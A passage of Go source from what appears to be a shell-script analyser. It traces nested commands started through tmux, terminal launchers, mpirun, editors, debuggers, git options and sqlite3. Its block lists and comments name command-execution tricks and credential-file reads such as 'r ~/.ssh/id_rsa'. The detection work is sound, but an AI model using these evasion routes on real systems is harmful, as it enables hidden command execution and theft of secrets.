		if strings.Contains(a.text, "#(") {
			script(a.text) // a format that runs a shell command
			return nil
		}
		t, sep := strings.CutSuffix(a.text, ";")
		if sep && strings.HasSuffix(t, "\\") {
			t, sep = t[:len(t)-1]+";", false // an escaped ; is part of the word
		}
		if t != "" || !sep {
			cur = append(cur, field{text: t, pattern: t})
		}
		if sep {
			segments = append(segments, cur)
			cur = nil
		}
	}
	segments = append(segments, cur)
	for _, seg := range segments {
		if len(seg) == 0 {
			continue
		}
		switch sub := seg[0].text; sub {
		case "new-session", "new", "new-window", "neww", "split-window", "splitw", "run-shell", "run", "respawn-pane", "respawnp", "respawn-window", "respawnw", "display-popup", "popup", "pipe-pane", "pipep", "if-shell", "if":
			j := 1
			for j < len(seg) && strings.HasPrefix(seg[j].text, "-") {
				if valueOpts[seg[j].text] {
					j++
				}
				j++
			}
			if j < len(seg) {
				parts := make([]string, 0, len(seg)-j)
				for _, a := range seg[j:] {
					parts = append(parts, a.text)
				}
				if err := r.nested(strings.Join(parts, " "), st, sc, "nested-shell"); err != nil {
					return err
				}
			}
		case "send-keys", "send":
			var parts []string
			for j := 1; j < len(seg); j++ {
				t := seg[j].text
				if valueOpts[t] {
					j++ // -t TARGET
					continue
				}
				if strings.HasPrefix(t, "-") || t == "Enter" || t == "C-m" || t == "KPEnter" {
					continue
				}
				parts = append(parts, t)
			}
			if len(parts) > 0 {
				if err := r.nested(strings.Join(parts, " "), st, sc, "nested-shell"); err != nil {
					return err
				}
			}
		case "set-hook", "source-file", "source", "bind-key", "bind", "command-prompt", "confirm-before", "confirm":
			// a tmux command run later, or tmux commands from a file
			script(sub)
		case "set-option", "set", "set-window-option", "setw":
			for _, a := range seg[1:] {
				switch strings.TrimPrefix(a.text, "@") {
				case "default-command", "default-shell", "lock-command", "editor", "copy-command":
					script(sub + " " + a.text) // an option whose value tmux runs
				}
			}
		}
	}
	return nil
}

// ssdLongs are start-stop-daemon's long options ("=": taking a value).
var ssdLongs = strings.Fields(`--start --stop --status --signal= --retry= --test --oknodo --quiet --verbose --exec=
--startas= --pidfile= --remove-pidfile --name= --user= --chuid= --group= --chroot= --chdir= --background
--make-pidfile --nicelevel= --procsched= --iosched= --umask= --no-close --notify-await --notify-timeout=
--output= --ppid= --help --version`)

// isNpmExec says whether a word is npm's exec subcommand (or its alias),
// however global options before it hide which word is the subcommand.
func isNpmExec(f field) bool { return f.text == "exec" || f.text == "x" }

// launcher judges a program that starts another program: a terminal
// emulator (xterm -e, gnome-terminal --, kitty PROG), an init or a
// supervisor (tini --, dumb-init, start-stop-daemon --exec, run-one), a
// watcher (watchexec --, nodemon --exec), an MPI launcher. What follows
// the option that names the program is that program's command line: one
// word is a shell command string, more are its argv. Where no such option
// appears the first word that is not an option starts it; when options
// come before it whose values cannot be told from operands, the program
// is a script nobody saw.
func (r *run) launcher(idx int, name string, args []field, st *state, sc scope) error {
	run := func(rest []field) error {
		switch {
		case len(rest) == 0:
			return nil
		case len(rest) == 1:
			return r.scriptArg(idx, rest[0], st, sc)
		}
		inner := sc
		inner.ctx = "nested-shell"
		_, err := r.simple(rest, st, inner, stdin{}, map[string]string{}, nil, []string{name})
		return err
	}
	for _, a := range args {
		switch a.text {
		case "send-text", "write-chars", "write", "send-key", "remote-control":
			// text typed into a running terminal: a command line nobody saw
			if name == "kitty" || name == "wezterm" || name == "zellij" {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + a.text, Cmd: idx})
				return nil
			}
		}
	}
	if name == "zellij" || name == "wezterm" || name == "kitty" && len(args) > 0 && args[0].text == "@" {
		// zellij run -- CMD, wezterm start -- CMD, kitty @ launch CMD:
		// past the subcommand
		for len(args) > 0 && !strings.HasPrefix(args[0].text, "-") && args[0].text != "--" {
			if args[0].text == "launch" || args[0].text == "run" || args[0].text == "start" || args[0].text == "spawn" {
				args = args[1:]
				break
			}
			args = args[1:]
		}
	}
	if name == "start-stop-daemon" {
		// --exec/--startas PROG (-x, -a), its arguments after --; the
		// options as getopt_long reads them (-Sx PROG, --exe=PROG)
		args = getoptArgs(args, "x:a:p:u:g:r:n:c:N:P:I:k:d:s:R:m:K:S", ssdLongs)
		var prog *field
		for k := 0; k < len(args); k++ {
			t := args[k].text
			switch {
			case (t == "--exec" || t == "--startas" || t == "-x" || t == "-a") && k+1 < len(args):
				prog = &args[k+1]
				k++
			case strings.HasPrefix(t, "--exec=") || strings.HasPrefix(t, "--startas="):
				_, v, _ := strings.Cut(t, "=")
				prog = &field{text: v, pattern: v, dynamic: args[k].dynamic}
			case t == "--":
				if prog == nil {
					return nil
				}
				return run(append([]field{*prog}, args[k+1:]...))
			}
		}
		if prog != nil {
			return run([]field{*prog})
		}
		for _, a := range args {
			if a.dynamic {
				// an option known only at run time may name the program
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + a.text, Cmd: idx})
				break
			}
		}
		return nil
	}
	if name == "mpirun" || name == "mpiexec" {
		return r.mpiLaunch(idx, name, args, st, sc)
	}
	// the option after which the program's command line follows
	markers := map[string]bool{"--": true}
	switch name {
	case "nodemon":
		markers = map[string]bool{"--exec": true, "-x": true, "--": true}
	case "xterm", "uxterm", "urxvt", "rxvt", "konsole", "gnome-terminal", "xfce4-terminal", "mate-terminal", "lxterminal",
		"tilix", "terminator", "alacritty", "foot", "st", "cool-retro-term", "qterminal", "sakura", "guake":
		markers = map[string]bool{"-e": true, "-x": true, "--": true, "--command": true, "--execute": true}
	}
	for k, a := range args {
		t := a.text
		if a.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + t, Cmd: idx})
			return nil
		}
		key, v, eq := strings.Cut(t, "=")
		switch {
		case markers[t]:
			return run(args[k+1:])
		case eq && markers[key] && strings.HasPrefix(key, "--"):
			if err := r.scriptArg(idx, field{text: v, pattern: v}, st, sc); err != nil {
				return err
			}
			return run(args[k+1:])
		}
	}
	for k, a := range args {
		if strings.HasPrefix(a.text, "-") {
			continue
		}
		if k > 0 && name != "run-one" {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " starts a program after options it was not followed through", Cmd: idx})
			return nil
		}
		return run(args[k:])
	}
	return nil
}

// mpiOne and mpiTwo are the options of mpirun/mpiexec (Open MPI's and
// MPICH's Hydra, one dash or two) that take one value or two; mpiFlags
// take none. Any other option may take a value or start something: the
// program after it is not known.
var (
	mpiOne = map[string]bool{"n": true, "np": true, "c": true, "N": true, "H": true, "host": true, "hosts": true,
		"hostfile": true, "machinefile": true, "machine": true, "f": true, "default-hostfile": true, "map-by": true,
		"bind-to": true, "rank-by": true, "ppn": true, "npernode": true, "npersocket": true, "wdir": true, "wd": true,
		"timeout": true, "iface": true, "launcher": true, "bootstrap": true, "rmk": true, "demux": true, "genvlist": true,
		"envlist": true, "output-filename": true, "report-uri": true, "x": true}
	mpiTwo   = map[string]bool{"mca": true, "gmca": true, "genv": true, "env": true}
	mpiFlags = map[string]bool{"oversubscribe": true, "allow-run-as-root": true, "use-hwthread-cpus": true, "nolocal": true,
		"v": true, "verbose": true, "q": true, "quiet": true, "report-bindings": true, "display-map": true,
		"display-allocation": true, "tag-output": true, "timestamp-output": true, "merge-stderr-to-stdout": true,
		"l": true, "prepend-rank": true, "print-all-exitcodes": true, "genvall": true, "genvnone": true, "envall": true,
		"envnone": true, "bind-to-core": true, "bynode": true, "byslot": true, "help": true, "h": true, "version": true, "V": true}
)

// mpiLaunch follows mpirun/mpiexec into the program it starts (the first
// operand after its options), with the variables -x NAME=VALUE, -genv
// NAME VALUE and -env NAME VALUE give it. An MCA parameter that names a
// program (plm_rsh_agent, orte_launch_agent …) and the options that run
// a program of their own or read command lines from a file (an appfile,
// a config file, a launcher's executable) are code nobody saw.
func (r *run) mpiLaunch(idx int, name string, args []field, st *state, sc scope) error {
	unknown := func(why string) error {
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + why, Cmd: idx})
		return nil
	}
	env := map[string]string{}
	at := st // where the program runs: -wdir DIR
	setEnv := func(kv string, dyn bool) error {
		k, v, ok := strings.Cut(kv, "=")
		if !ok {
			return nil // -x NAME passes on the value mpirun has itself
		}
		if !isAssignWord(k + "=") {
			return unknown(kv)
		}
		return r.recordAssign(k, v, dyn, st, sc, idx, env)
	}
	for k := 0; k < len(args); k++ {
		a := args[k]
		if a.dynamic {
			return unknown(a.text)
		}
		t := a.text
		if t == "--" || t == ":" {
			return unknown("starts more than one program (" + t + ")")
		}
		if !strings.HasPrefix(t, "-") {
			// the program and its arguments, exec'd as they are
			inner := sc
			inner.ctx = "nested-shell"
			_, err := r.simple(args[k:], at, inner, stdin{}, env, nil, []string{name})
			return err
		}
		opt, val, eq := strings.Cut(strings.TrimLeft(t, "-"), "=")
		switch {
		case mpiFlags[opt] && !eq:
		case mpiOne[opt]:
			if !eq {
				if k+1 >= len(args) || args[k+1].dynamic {
					return unknown(t)
				}
				k++
				val = args[k].text
			}
			switch opt {
			case "x":
				if err := setEnv(val, false); err != nil {
					return err
				}
			case "wdir", "wd":
				// the program runs there
				p := r.addPath(field{text: val, pattern: val}, st, "cwd", idx, name)
				at = st.clone()
				at.cwd, at.cwdReal = p.Real, p.Exists && !p.Glob
			case "report-uri", "output-filename":
				r.addPath(field{text: val, pattern: val}, st, "write", idx, name)
			}
		case mpiTwo[opt] && !eq:
			if k+2 >= len(args) || args[k+1].dynamic || args[k+2].dynamic {
				return unknown(t)
			}
			key, value := args[k+1].text, args[k+2].text
			k += 2
			if opt == "genv" || opt == "env" {
				if err := setEnv(key+"="+value, false); err != nil {
					return err
				}
				continue
			}
			l := strings.ToLower(key)
			for _, w := range []string{"agent", "exec", "launch", "rsh", "ssh", "cmd", "command", "prefix", "orted", "daemon", "path", "file", "script"} {
				if strings.Contains(l, w) {
					return unknown(t + " " + key + " " + value)
				}
			}
		default:
			return unknown(t + ": an option it was not followed through")
		}
	}
	return nil
}

// editorCommands: vim -c '!cmd' / +'!cmd', less +!cmd, gdb -ex '!cmd' or
// 'shell cmd' run shell commands.
// exFileCommands are the ex commands that take a file operand.
var exFileCommands = map[string]bool{"w": true, "write": true, "wq": true, "x": true, "xit": true, "up": true, "update": true,
	"sav": true, "saveas": true, "r": true, "read": true, "e": true, "edit": true, "so": true, "source": true, "new": true,
	"vs": true, "vsplit": true, "sp": true, "split": true, "tabe": true, "tabedit": true, "tabnew": true, "n": true, "next": true,
	"args": true, "argadd": true, "redir": true, "mks": true, "mksession": true, "wv": true, "wviminfo": true, "rv": true,
	"rviminfo": true, "wsh": true, "wshada": true, "rsh": true, "rshada": true, "diffsplit": true, "diffpatch": true,
	"w>>": true, "luafile": true, "pyfile": true, "py3file": true, "rubyfile": true, "perldo": true, "runtime": true}

// exFileCommand says whether an ex command line (commands joined by |)
// has a command given a file operand.
func exFileCommand(line string) bool {
	for _, c := range strings.Split(line, "|") {
		c = strings.TrimLeft(strings.TrimSpace(c), ":")
		// a range before the command: %, 1,$, '<,'>, numbers
		c = strings.TrimLeft(c, "0123456789%$.,'<>+-; ")
		name, arg, _ := strings.Cut(c, " ")
		name = strings.TrimSuffix(name, "!")
		if strings.HasPrefix(name, "w>>") {
			return true
		}
		if exFileCommands[name] && strings.TrimSpace(arg) != "" {
			return true
		}
	}
	return false
}

// debuggerCode says whether a gdb or lldb command runs code or a shell
// command line the analysis does not follow: python/py/pi, script,
// command script, pipe and | (gdb's pipe through a shell command).
func debuggerCode(t string) bool {
	word, _, _ := strings.Cut(t, " ")
	switch word {
	case "python", "py", "pi", "python-interactive", "script", "pipe", "|", "guile", "gu":
		return true
	case "command":
		return strings.HasPrefix(t, "command script")
	}
	return strings.HasPrefix(t, "|")
}

// inputText is what a command reads on its input when the analysis can
// know it: a literal (here-document, here-string, echo into a pipe), or a
// regular file redirected in (knownText).
func (r *run) inputText(in stdin, idx int) (string, bool) {
	switch {
	case in.literal != nil:
		return *in.literal, true
	case in.fileText != nil:
		return *in.fileText, true
	case in.kind != "file" || in.path == "":
		return "", false
	}
	return r.knownText(in.path, idx)
}

// knownText is the content of the file at real (resolved) when the
// analysis can know it: what the script wrote there, or a regular file on
// disk of at most 64 KiB (a FIFO would block the analysis) that no earlier
// command changes unseen and that is not in /tmp (another directory in
// the box). A file read from disk that a later command writes is checked
// at the end (textsRewritten): command idx reads it.
func (r *run) knownText(real string, idx int) (string, bool) {
	if content, ok := r.written[real]; ok {
		if content == nil {
			return "", false
		}
		return *content, true
	}
	if z := r.cls.zone(real); z == "tmp" || z == "tmp_root" || r.scriptWrote(real) {
		return "", false
	}
	b, err := readRegular(real, 64<<10)
	if err != nil {
		return "", false
	}
	r.textReads = append(r.textReads, textRead{real: real, cmd: idx})
	return string(b), true
}

// textRead is a file whose text the analysis took from disk for the
// command with index cmd.
type textRead struct {
	real string
	cmd  int
}

// textsRewritten makes unknown the text of every file knownText read from
// disk that a command of the script writes: a command later in the script
// may run before the reader reads it or at the same time (the reader in
// the background or in a pipeline with it: sed -f x.sed f & echo … >
// x.sed), and then the file holds what that command wrote. Written files
// are matched by their resolved path, or by pattern when the written path
// is a glob.
func (r *run) textsRewritten() {
	for _, t := range r.textReads {
		for _, p := range r.facts.Paths {
			if p.Access != "write" {
				continue
			}
			same := p.Real == t.real
			if !same && p.Glob {
				same, _ = path.Match(p.Real, t.real)
			}
			if same {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "the text of " + t.real + " is taken as commands, but a command of the same script writes it: what it holds when read is not known", Cmd: t.cmd})
				break
			}
		}
	}
}

// sqliteSafeDots are the sqlite3 shell's dot-commands that open no file
// and run nothing.
var sqliteSafeDots = map[string]bool{".tables": true, ".schema": true, ".headers": true, ".header": true, ".mode": true,
	".width": true, ".indexes": true, ".indices": true, ".databases": true, ".dbinfo": true, ".show": true, ".stats": true,
	".timer": true, ".echo": true, ".explain": true, ".help": true, ".nullvalue": true, ".separator": true, ".changes": true,
	".print": true, ".bail": true, ".eqp": true, ".fullschema": true, ".lint": true, ".limit": true, ".quit": true,
	".exit": true, ".timeout": true, ".dump": true}

// sqliteSafe says whether an argument (or input) of sqlite3 holds only
// SQL and plain dot-commands: no dot-command but sqliteSafeDots at the
// start of a line, no function or statement that opens a file.
func sqliteSafe(text string) bool {
	l := strings.ToLower(text)
	for _, f := range []string{"readfile(", "writefile(", "edit(", "load_extension", "fts3_tokenizer", "attach", "vacuum"} {
		if strings.Contains(l, f) {
			return false
		}
	}
	for _, line := range strings.Split(l, "\n") {
		line = strings.TrimSpace(line)
		if !strings.HasPrefix(line, ".") {
			continue
		}
		word, _, _ := strings.Cut(line, " ")
		word, _, _ = strings.Cut(word, "\t")
		if !sqliteSafeDots[word] {
			return false
		}
	}
	return true
}

// yqLoad finds yq's file-loading operators and the literal file they name
// (empty when it is not a plain string: an expression, a variable).
var yqLoad = regexp.MustCompile(`\bload(?:_str|_xml|_props|_base64|_yaml|_json|_toml|_csv|_tsv)?\s*\(\s*(?:"([^"\\]*)"\s*\)|)`)

// vimFamily are the editors whose -c, + and ex-mode commands are ex
// commands.
var vimFamily = map[string]bool{"vi": true, "vim": true, "nvim": true, "view": true, "ex": true, "gvim": true}

// exSafe matches the ex commands that run nothing and touch no file but
// the one being edited: a line number, quits and writes of the file,
// settings of plain words, :noh, :retab, :syntax/:filetype on or off,
// substitutions without an expression (\=) or a command after them, and
// deletions (also by :g/pat/d).
var exSafe = regexp.MustCompile(`^(?:\d+|\$)?$` +
	`|^(?:q|qa|qall|quit|quitall|wq|wqa|wqall|x|xa|xit|exit|w|wa|write|up|update)!?$` +
	`|^(?:se|set|setl|setlocal)(?:\s+[A-Za-z0-9_+\-=:,.]+)*$` +
	`|^(?:noh|nohlsearch|retab!?|syntax (?:on|off|enable)|filetype (?:on|off)(?: plugin| indent)*)$` +
	`|^(?:%|\d+(?:,\d+)?|'<,'>)?(?:s|substitute)/(?:[^\\/|]|\\[^=|])*/(?:[^\\/|]|\\[^=|])*/[gciIne&]*$` +
	`|^(?:%|\d+(?:,\d+)?)?(?:g|global|v|vglobal)!?/(?:[^\\/|]|\\[^|])*/d(?:elete)?$` +
	`|^(?:%|\d+(?:,\d+)?)?d(?:elete)?$`)

// exAllSafe says whether every command of an ex command line (commands
// separated by "|", which none of exSafe's takes as part of its argument)
// is one exSafe matches.
func exAllSafe(line string) bool {
	for _, c := range strings.Split(line, "|") {
		if !exSafe.MatchString(strings.TrimSpace(strings.TrimLeft(strings.TrimSpace(c), ":"))) {
			return false
		}
	}
	return true
}

// gdbLongs are gdb's long options, for gdbArgs.
var gdbLongs = strings.Fields(`--args --core --exec --pid --directory --se --symbols --readnow --readnever
--command --init-command --eval-command --init-eval-command --nh --nx --quiet --silent --batch
--batch-silent --return-child-result --cd --data-directory --fullname --interpreter --tty --write
--statistics --configuration --help --version --tui --dbx --baud`)

// gdbArgs spells gdb's command options out: a long option may be given
// with one dash or two and abbreviated to a unique prefix.
func gdbArgs(args []field) []field {
	out := make([]field, len(args))
	copy(out, args)
	for i, a := range out {
		t := a.text
		if a.dynamic || len(t) < 3 || t[0] != '-' || t == "-ex" || t == "-iex" || t == "--" {
			continue
		}
		w := t
		if t[1] != '-' {
			w = "-" + t
		}
		if e := expandLong(w, gdbLongs...); strings.HasPrefix(e, "--eval-command") || strings.HasPrefix(e, "--init-eval-command") {
			out[i].text, out[i].pattern = e, e
		}
	}
	return out
}

func (r *run) editorCommands(idx int, name string, args []field, st *state, sc scope, in stdin) error {
	check := func(f field) error {
		t := strings.TrimSpace(strings.TrimLeft(f.text, ":+"))
		if f.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: f.text, Cmd: idx})
			return nil
		}
		switch {
		case strings.HasPrefix(t, "!"):
			return r.nested(strings.TrimPrefix(t, "!"), st, sc, "nested-shell")
		case strings.HasPrefix(t, "shell ") || strings.HasPrefix(t, "sh "):
			_, cmd, _ := strings.Cut(t, " ")
			return r.nested(cmd, st, sc, "nested-shell")
		case (name == "gdb" || name == "lldb") && strings.HasPrefix(t, "platform shell "):
			// lldb's platform shell [-h HOST] CMD (its shell alias is above)
			return r.nested(strings.TrimPrefix(t, "platform shell "), st, sc, "nested-shell")
		case (name == "gdb" || name == "lldb") && debuggerCode(t):
			// python, script, pipe: code or a shell command line the
			// debugger hands on
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: f.text, Cmd: idx})
		case strings.Contains(t, "system(") || strings.Contains(t, ":!") || strings.HasPrefix(t, "r !") || strings.HasPrefix(t, "w !"):
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: f.text, Cmd: idx})
		case name != "gdb" && name != "lldb" && exFileCommand(t):
			// w! ~/.bashrc, r ~/.ssh/id_rsa, so x.vim: a file the
			// analyser does not see is written, read or run
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: f.text, Cmd: idx})
		case vimFamily[name] && !exAllSafe(t):
			// any other ex command may run one (:sil !cmd, :exe "!cmd",
			// :%!cmd, systemlist(), :norm, :py …): only plain edits,
			// writes of the file, quits and settings are followed
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: f.text, Cmd: idx})
		}
		return nil
	}
	if vimFamily[name] {
		// --remote-expr EXPR and --remote-send KEYS run in another,
		// running editor: what they do there is not followed
		for _, a := range args {
			if strings.HasPrefix(a.text, "--remote-expr") || strings.HasPrefix(a.text, "--remote-send") {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + a.text, Cmd: idx})
				return nil
			}
		}
	}
	if name == "gdb" {
		// gdb reads its options with getopt_long_only: -eval-co=CMD is
		// --eval-command=CMD
		args = gdbArgs(args)
	}
	for k, a := range args {
		t := a.text
		switch {
		case (t == "-c" || t == "--cmd" || t == "-ex" || t == "--eval-command" || t == "-iex" || t == "--init-eval-command") && k+1 < len(args),
			name == "lldb" && (t == "-o" || t == "-O" || t == "-k" || t == "-K" || t == "--one-line" || t == "--one-line-before-file" || t == "--one-line-on-crash") && k+1 < len(args):
			if err := check(args[k+1]); err != nil {
				return err
			}
		case name != "gdb" && name != "lldb" && len(t) > 2 && t[0] == '-' && t[1] != '-' && strings.HasSuffix(t, "c") && k+1 < len(args):
			// bundled: ex -sc CMD, vim -esc CMD
			if err := check(args[k+1]); err != nil {
				return err
			}
		case strings.HasPrefix(t, "+") && len(t) > 1:
			if err := check(a); err != nil {
				return err
			}
		case strings.HasPrefix(t, "--eval-command="), strings.HasPrefix(t, "--init-eval-command="),
			name == "lldb" && strings.HasPrefix(t, "--one-line"):
			_, v, _ := strings.Cut(t, "=")
			if err := check(field{text: v, dynamic: a.dynamic}); err != nil {
				return err
			}
		}
	}
	// In ex mode (ex, vim -e/-es/-E) and in gdb/lldb, commands come from
	// stdin when it is not the terminal: vim -es x <<< 'w! ~/.bashrc'.
	exMode := name == "ex" || name == "gdb" || name == "lldb"
	for _, a := range args {
		if t := a.text; len(t) > 1 && t[0] == '-' && t[1] != '-' && strings.ContainsAny(t[1:], "eE") && name != "less" && name != "more" && name != "most" {
			exMode = true
		}
	}
	if exMode && in.kind != "" {
		if in.literal == nil {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "stdin_script", Text: name + " reads commands from its input", Cmd: idx})
			return nil
		}
		for _, line := range strings.Split(*in.literal, "\n") {
			if strings.TrimSpace(line) == "" {
				continue
			}
			if err := check(field{text: line}); err != nil {
				return err
			}
		}
	}
	return nil
}

// gitOptions handles a git subcommand's options that name files or run
// programs.
func (r *run) gitOptions(idx int, sub string, rest []field, st *state, sc scope) error {
	value := func(k int, t, long, short string) (field, bool) {
		switch {
		case long != "" && strings.HasPrefix(t, long+"="):
			v := strings.TrimPrefix(t, long+"=")
			return field{text: v, pattern: v, dynamic: rest[k].dynamic}, true
		case (t == long || short != "" && t == short) && k+1 < len(rest):
			return rest[k+1], true
		case short != "" && strings.HasPrefix(t, short) && len(t) > len(short) && !strings.HasPrefix(t, "--"):
			v := t[len(short):]
			return field{text: v, pattern: v, dynamic: rest[k].dynamic}, true
		}
		return field{}, false
	}
	for k, a := range rest {
		if err := gitViews(sub, a, func(t string) error { return r.gitOption(idx, sub, k, t, st, sc, value) }); err != nil {
			return err
		}
		if rest, ok := strings.CutPrefix(a.text, "ext::"); ok {
			// git's ext transport runs a command
			if err := r.scriptArg(idx, field{text: rest, pattern: rest, dynamic: a.dynamic}, st, sc); err != nil {
				return err
			}
		}
	}
	return r.gitOperands(idx, sub, rest, st, sc, value)
}

// gitOption judges one option word of a git subcommand (or one reading of
// it: gitViews).
func (r *run) gitOption(idx int, sub string, k int, t string, st *state, sc scope, value func(k int, t, long, short string) (field, bool)) error {
	if v, ok := value(k, t, "--output", "-o"); ok && sub != "commit" && sub != "clone" {
		r.addPath(v, st, "write", idx, "git")
	}
	for _, o := range gitFileOptions {
		if sub == "clone" && o.long == "--template" {
			continue
		}
		if v, ok := value(k, t, o.long, o.short); ok {
			r.addPath(v, st, o.access, idx, "git")
		}
	}
	for _, o := range gitCommandOptions {
		if v, ok := value(k, t, o.long, gitShort(sub, o.short)); ok {
			if err := r.scriptArg(idx, v, st, sc); err != nil {
				return err
			}
		}
	}
	return nil
}

// gitFileOptions are git options whose value is a file git reads or
// writes.
var gitFileOptions = []struct{ long, short, access string }{
	{"--prefix", "", "write"}, {"--directory", "", "write"}, {"--file", "-F", "read"}, {"--add-file", "", "read"},
	{"--output-directory", "", "write"}, {"--template", "", "read"}, {"--signature-file", "", "read"},
	{"--cover-letter-file", "", "read"}, {"--description-file", "", "read"},
	// fast-export and fast-import keep their marks in a file they name
	{"--export-marks", "", "write"}, {"--import-marks", "", "read"}, {"--import-marks-if-exists", "", "read"},
	// plumbing that writes objects and indexes where it is told
	{"--object-dir", "", "write"},
}

// gitCommandOptions are git options whose value git runs as a command.
var gitCommandOptions = []struct{ long, short string }{
	{"--exec", "-x"}, {"--upload-pack", "-u"}, {"--receive-pack", ""}, {"--extcmd", "-x"},
	{"--open-files-in-pager", "-O"}, {"--tree-filter", ""}, {"--index-filter", ""}, {"--env-filter", ""},
	{"--msg-filter", ""}, {"--commit-filter", ""}, {"--tag-name-filter", ""}, {"--parent-filter", ""},
}

// gitShort is the short spelling of a command option in subcommand sub
// ("" where the letter means something else there).
func gitShort(sub, short string) string {
	switch short {
	case "-x":
		if sub != "rebase" && sub != "difftool" && sub != "mergetool" {
			return ""
		}
	case "-u":
		if sub != "clone" && sub != "fetch" && sub != "ls-remote" && sub != "pull" && sub != "archive" {
			return ""
		}
	case "-O":
		if sub != "grep" {
			return ""
		}
	}
	return short
}

// gitCommandSubs are the subcommands in which each command option is
// read, for its abbreviations.
var gitCommandSubs = map[string][]string{
	"--exec": {"rebase"}, "--extcmd": {"difftool", "mergetool"}, "--open-files-in-pager": {"grep"},
	"--upload-pack": {"clone", "fetch", "ls-remote", "pull", "archive"}, "--receive-pack": {"push", "send-pack"},
}

// gitViews passes view the readings of one argument of git subcommand sub
// that gitOption judges: the word itself; a long option abbreviated as git's
// option parser accepts (--exe=… is --exec=…), taken for every option that
// matters here that it begins (an ambiguous one makes git refuse the
// command, so nothing is lost by reading it so); and a short option that
// takes a command or a file at the end of a cluster (-iO'cmd', -qx cmd,
// -qF/path), with the rest of the word, or the next word, as its value.
func gitViews(sub string, a field, view func(string) error) error {
	t := a.text
	if err := view(t); err != nil || a.dynamic || len(t) < 3 || t[0] != '-' {
		return err
	}
	if strings.HasPrefix(t, "--") {
		key, val, eq := strings.Cut(t, "=")
		add := func(long string, min int) error {
			if len(key) < min || long == key || !strings.HasPrefix(long, key) {
				return nil
			}
			if eq {
				return view(long + "=" + val)
			}
			return view(long)
		}
		for _, o := range gitCommandOptions {
			subs, scoped := gitCommandSubs[o.long]
			if !scoped && sub == "filter-branch" || slices.Contains(subs, sub) {
				if err := add(o.long, 4); err != nil {
					return err
				}
			}
		}
		for _, long := range []string{"--output", "--output-directory", "--file"} {
			if err := add(long, 5); err != nil {
				return err
			}
		}
		return nil
	}
	var letters string
	switch sub {
	case "grep":
		letters = "O"
	case "rebase", "difftool", "mergetool":
		letters = "x"
	case "commit", "tag", "notes", "merge":
		letters = "F"
	case "archive", "format-patch":
		letters = "o"
	}
	for j := 2; j < len(t); j++ {
		if strings.IndexByte(letters, t[j]) >= 0 {
			if err := view("-" + t[j:]); err != nil {
				return err
			}
		}
	}
	return nil
}

// gitOperands judges a git subcommand's file operands and the
// subcommand-specific rest.
func (r *run) gitOperands(idx int, sub string, rest []field, st *state, sc scope, value func(k int, t, long, short string) (field, bool)) error {
	// git subcommands whose operands are files, not revisions: they are
	// read (merge-file without -p also writes its first)
	fileOperands := func(skipValue map[string]bool) []field {
		var ops []field
		for k := 0; k < len(rest); k++ {
			t := rest[k].text
			switch {
			case t == "--":
			case skipValue[t] && k+1 < len(rest):
				k++
			case strings.HasPrefix(t, "-") && t != "-":
			default:
				ops = append(ops, rest[k])
			}
		}
		return ops
	}
	if sub == "remote-ext" {
		// git remote-ext NAME 'CMD ARGS': the transport helper runs CMD
		// (as ext:: URLs do); % escapes aside, its words are a command line
		if ops := fileOperands(nil); len(ops) >= 2 {
			if err := r.scriptArg(idx, ops[1], st, sc); err != nil {
				return err
			}
		}
	}
	switch {
	case sub == "diff" && hasText(rest, "--no-index"):
		for _, o := range fileOperands(map[string]bool{"-U": true, "--unified": true, "-S": true, "-G": true, "-O": true}) {
			r.addPath(o, st, "read", idx, "git")
		}
	case sub == "merge-file":
		ops := fileOperands(map[string]bool{"-L": true})
		for i, o := range ops {
			acc := "read"
			if i == 0 && !hasText(rest, "-p") && !hasText(rest, "--stdout") {
				acc = "write"
			}
			r.addPath(o, st, acc, idx, "git")
		}
	case sub == "hash-object":
		for _, o := range fileOperands(map[string]bool{"-t": true, "--path": true}) {
			r.addPath(o, st, "read", idx, "git")
		}
	case sub == "blame" || sub == "annotate":
		for k, a := range rest {
			if v, ok := value(k, a.text, "--contents", ""); ok {
				r.addPath(v, st, "read", idx, "git")
			}
		}
	}
	switch sub {
	case "submodule":
		for k, a := range rest {
			if a.text == "foreach" && k+1 < len(rest) {
				j := k + 1
				for j < len(rest) && strings.HasPrefix(rest[j].text, "-") {
					j++
				}
				parts := make([]string, 0, len(rest)-j)
				for _, x := range rest[j:] {
					if x.dynamic {
						r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: x.text, Cmd: idx})
						return nil
					}
					parts = append(parts, x.text)
				}
				return r.nested(strings.Join(parts, " "), st, sc, "nested-shell")
			}
		}
	case "bisect":
		if len(rest) > 1 && rest[0].text == "run" {
			_, err := r.simple(rest[1:], st, sc, stdin{}, map[string]string{}, nil, []string{"git bisect run"})
			return err
		}
	}
	return nil
}

// hasText says whether one of args is exactly t.
func hasText(args []field, t string) bool {
	for _, a := range args {
		if a.text == t {
			return true
		}
	}
	return false
}

// goTool handles the go command's options that run programs.
func (r *run) goTool(idx int, args []field, st *state, sc scope) error {
	for k, a := range args {
		t := strings.TrimPrefix(a.text, "-")
		for _, o := range []string{"-toolexec", "-exec", "-vettool", "-overlay", "-pgo"} {
			key := strings.TrimPrefix(o, "-")
			var v field
			ok := false
			switch {
			case strings.HasPrefix(t, key+"=") || strings.HasPrefix(t, "-"+key+"="):
				_, val, _ := strings.Cut(a.text, "=")
				v, ok = field{text: val, pattern: val, dynamic: a.dynamic}, true
			case (t == key || t == "-"+key) && k+1 < len(args):
				v, ok = args[k+1], true
			}
			if !ok {
				continue
			}
